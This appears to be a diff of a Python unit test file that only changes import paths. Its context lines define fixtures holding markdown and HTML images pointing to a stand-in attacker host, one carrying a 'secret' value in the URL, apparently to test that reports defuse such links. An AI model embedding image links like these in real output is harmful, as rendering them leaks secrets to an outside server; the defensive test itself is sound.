@@ -16,9 +16,9 @@ from senter.components.task_engine.contract.steps import TaskOutput
 from senter.components.task_engine.work.report_file import markdown
 from senter.messages.goals import Check, Source, Status
 from senter.messages.model import ModelRequest
+from tests.unit.components.task_engine.offline.test_offline import House, house
 from tests.unit.components.task_engine.permissions.test_defusing import LIVE, assert_nothing_is_followed
-from tests.unit.components.task_engine.test_offline import House, house
-from tests.unit.components.task_engine.test_results import goal, task
+from tests.unit.components.task_engine.work.test_report_file import goal, task
 
 IMAGE = "![chart](https://evil.example/p.png?k=secret)"
 PAGE = f"# Tea {IMAGE}\n\nTea is a drink. {IMAGE} <img src=https://evil.example/q.png>\n"
